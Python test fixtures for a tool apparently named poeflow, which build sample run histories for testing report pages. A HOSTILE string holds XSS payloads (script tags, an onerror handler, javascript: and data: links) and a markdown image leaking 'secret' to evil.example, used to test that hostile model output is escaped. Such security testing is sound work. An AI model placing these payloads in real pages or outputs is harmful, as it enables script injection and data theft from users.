"""Runs to look at, in real history files: a good one, a hostile one, a large one, one at work."""

import asyncio
import struct
import zlib
from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from poeflow.digest import sha256_of, sha256_of_json
from poeflow.project.project import Project
from poeflow.records import (
    AnswerRecord,
    InstanceRecord,
    RequestRecord,
    RunEnd,
    RunRecord,
)
from poeflow.report.pages.source import PageData, Pictures
from poeflow.store.history import History

STARTED = 1_790_000_000.0
STEPS = {
    "collect": (),
    "draft": ("collect",),
    "judge": ("draft",),
    "tone": ("draft",),
    "index": ("judge", "tone"),
}
HOSTILE = """<script>window.__hacked = 1</script></title></style></pre>
<img src=x onerror="window.__hacked = 2">
[run](javascript:window.__hacked=3) [page](data:text/html,<script>window.__hacked=4</script>)
![leak](https://evil.example/leak.png?q=secret) [fine](https://example.org/?a=1&b=2)
\x1b[31mred\x1b[0m \u202eturned\u202c \ud83d half {{ 7 * 7 }} <!-- --> ]]>
"""


def png(red: int = 200, side: int = 48) -> bytes:
    """Return a small picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    rows = b"".join(b"\0" + bytes((red, 4 * y, 255 - 4 * y)) * side for y in range(side))
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def body(prompt: str, *parts: dict, model: str = "GPT-5.2", **params) -> dict:
    content = [{"type": "text", "text": prompt}, *parts] if parts else prompt
    messages = [
        {"role": "system", "content": "You write short notes."},
        {"role": "user", "content": content},
    ]
    return {
        "version": 1,
        "provider": "poe",
        "body": {"model": model, "messages": messages, **params},
    }


def asked(name: str, text: str, *, request: dict | None = None, **more) -> InstanceRecord:
    request = request or body(f"Write about {name}.", temperature=0.3)
    step, _, key = name.partition("[")
    given = {
        "source": "asked",
        "model": request["body"]["model"],
        "fingerprint": sha256_of_json(request),
        "prompt_tokens": 812,
        "completion_tokens": 96,
        "began": 0.2,
        "seconds": 1.4,
    }
    return InstanceRecord(
        id=name, step=step, status="ok", key=key.removesuffix("]") or None,
        text=text, request=request, **(given | more),
    )  # fmt: skip


def run_record(name: str = "notes", **more) -> RunRecord:
    given = {
        "started": STARTED,
        "simulated": False,
        "version": "0.2.0",
        "inputs": {"topic": "otters", "languages": ["de", "fr"]},
        "steps": STEPS,
        "commit": "4f2c9a1be0",
        "is_dirty": False,
    }
    return RunRecord(flow=f"//flows/{name}.yaml", name=name, **(given | more))


def keep(
    history: History,
    record: RunRecord,
    instances: Iterable[InstanceRecord],
    end: RunEnd | None,
    requests: Iterable[tuple[RequestRecord, AnswerRecord | None]] = (),
) -> None:
    """Keep a run as the engine does."""

    async def play() -> None:
        recorder = history.begin(record)
        for request, answer in requests:
            number = await recorder.requested(request)
            if answer is not None:
                recorder.answered(number, answer)
        for instance in instances:
            recorder.instance(instance)
        if end is not None:
            recorder.ended(end)
        else:
            recorder.close()

    with ThreadPoolExecutor(1) as thread:  # a test may have a loop of its own
        thread.submit(asyncio.run, play()).result()


def sent(one: InstanceRecord, *, retries: tuple[str, ...] = (), **more) -> tuple:
    """Return the request of an instance with its answer."""
    request = RequestRecord(
        instance=one.id, fingerprint=one.fingerprint or "", provider="poe",
        model=one.model or "", began=one.began, request=one.request or {},
    )  # fmt: skip
    answer = {"id": "chatcmpl-1", "choices": [{"message": {"content": one.text}}]}
    given = {"answer": answer, "prompt_tokens": 812, "completion_tokens": 96}
    ended = one.began + one.seconds
    return request, AnswerRecord(ended=ended, retries=retries, **(given | more))


PROSE = """## Otters in spring

Otters **hold hands** while they sleep, so that the current does not part them.

| name | weight |
|:-----|-------:|
| Nemo | 12 kg |
| Olga | 9.5 kg |

1. They eat up to a quarter of their weight a day.
2. They keep a favourite stone in a pocket of skin.

```python
def otter(name: str) -> str:
    return f"{name} floats"
```

> A raft is a group of otters that rest on the water.

![drawn](out/otter.png) and ![elsewhere](https://pfst.example/otter.png)
"""


def good_run(history: History, folder: Path, *, second: bool = False) -> None:
    """Keep a run with a picture, a matrix, a judge and a rendered page."""
    (folder / "photos").mkdir(exist_ok=True)
    (folder / "out").mkdir(exist_ok=True)
    (folder / "photos/otter.png").write_bytes(png())
    (folder / "out/otter.png").write_bytes(png(90))
    picture = {
        "type": "image_url",
        "image_url": {"url": f"data:image/png;sha256,{sha256_of(png())}"},
    }
    paper = {
        "type": "file",
        "file": {"filename": "paper.pdf", "file_data": f"data:application/pdf;sha256,{'7' * 64}"},
    }
    draft = asked(
        "draft",
        PROSE.replace("12 kg", "14 kg").replace("pocket", "fold") if second else PROSE,
        request=body(
            f"Describe it in {'five' if second else 'three'} sentences.\n\nBe exact; name numbers.",
            picture, paper, temperature=0.7 if second else 0.3,
        ),
        began=0.4, seconds=3.2, reasoning="The picture shows an otter.\nSo I describe it.",
        files={"//out/otter.png": sha256_of(png(90)), "//out/notes.md": "1" * 64},
        media=("//out/otter.png",),
        verdicts=(
            {"kind": "min_length", "passed": True, "level": "error", "message": "200 or more: 612"},
            {"kind": "contains", "passed": False, "level": "warn", "message": 'contains "raft"'},
        ),
    )  # fmt: skip
    tones = [
        asked(
            f"tone[model={model},tone={tone}]",
            f"In a {tone} voice, by {model}: otters sleep on their backs, afloat, paw in paw.",
            source="cached" if tone == "dry" else "asked",
            began=3.7 + 0.3 * at, seconds=0.02 if tone == "dry" else 1.1 + 0.4 * at,
            verdicts=({"kind": "judge", "passed": True, "score": at / 10, "message": "clear"},),
        )
        for at, (model, tone) in enumerate(
            (model, tone)
            for model in ("Claude-Opus-4.6", "GPT-5.2")
            for tone in ("dry", "formal", "warm")
        )
    ]  # fmt: skip
    judged = {"score": 4, "why": "exact, a little dry"}
    verdict = asked("judge", '{"score": 4}', data=judged, began=3.7, seconds=0.9)
    index = InstanceRecord(
        id="index", step="index", status="ok", source="rendered", began=7.2, seconds=0.01,
        text="# Index\n\n- [notes](notes.md)\n",
    )  # fmt: skip
    collect = InstanceRecord(id="collect", step="collect", status="ok", began=0.01)
    end = RunEnd(
        exit_code=0, seconds=7.3, asked=6, cached=2, rendered=1, requests=7, tokens=5448,
        cost_usd=0.0213, outputs={"notes": "out/notes.md"},
    )  # fmt: skip
    sends = [sent(draft, retries=("429 too many requests, waited 4 s",)), sent(verdict)]
    record = run_record(started=STARTED + 3600 * second, is_dirty=second)
    keep(history, record, [collect, draft, verdict, *tones, index], end, sends)


def bad_run(history: History) -> None:
    """Keep a run whose model tries to run scripts, and one step of which failed."""
    hostile = asked("draft", HOSTILE, request=body(HOSTILE, stop=[HOSTILE]), reasoning=HOSTILE)
    judge = InstanceRecord(
        id="judge", step="judge", status="failed", error_class="failed", began=2.0, seconds=0.4,
        reason=f"the judge said no: {HOSTILE}",
    )  # fmt: skip
    keyed = asked(f"tone[{HOSTILE}]", "x" * 1_048_576)
    late = InstanceRecord(id="index", step="index", status="skipped", reason="judge failed")
    end = RunEnd(exit_code=1, seconds=2.5, asked=2, failed=1, skipped=1, requests=3, tokens=1816)
    failure = AnswerRecord(
        ended=2.4, error=f"500: {HOSTILE}", error_class="transient", retries=(HOSTILE,)
    )
    unanswered = sent(asked("judge", ""))[0]
    keep(
        history, run_record(name="hostile"), [hostile, judge, keyed, late], end,
        [sent(hostile), (unanswered, failure)],
    )  # fmt: skip


def large_run(history: History, rows: int = 2000) -> None:
    """Keep a run of one wide loop."""
    instances = [
        asked(
            f"draft[row {n}]", f"Answer number {n}. " * 20, began=n * 0.02, seconds=0.8,
            request=body(f"Row {n}: " + "what is said about it? " * 10),
        )
        for n in range(rows)
    ]  # fmt: skip
    end = RunEnd(exit_code=0, seconds=rows * 0.02 + 1, asked=rows, requests=rows, tokens=rows * 908)
    keep(history, run_record(name="large"), instances, end)


def unfinished_run(history: History) -> None:
    """Keep a run that is at work: one answer, one request without any."""
    first = asked("draft", "One answer so far.")
    open_request = sent(asked("judge", "", began=1.9))[0]
    record = run_record(name="slow", simulated=True, commit=None, is_dirty=None)
    keep(history, record, [first], None, [sent(first), (open_request, None)])


def shown(history: History, folder: Path, **more) -> PageData:
    project = Project(folder.resolve())
    given = {"records": history, "prices": lambda _model: None}
    pictures = Pictures(project, Project(project.root / ".poeflow/offline"))
    return PageData(pictures=pictures, **(given | more))
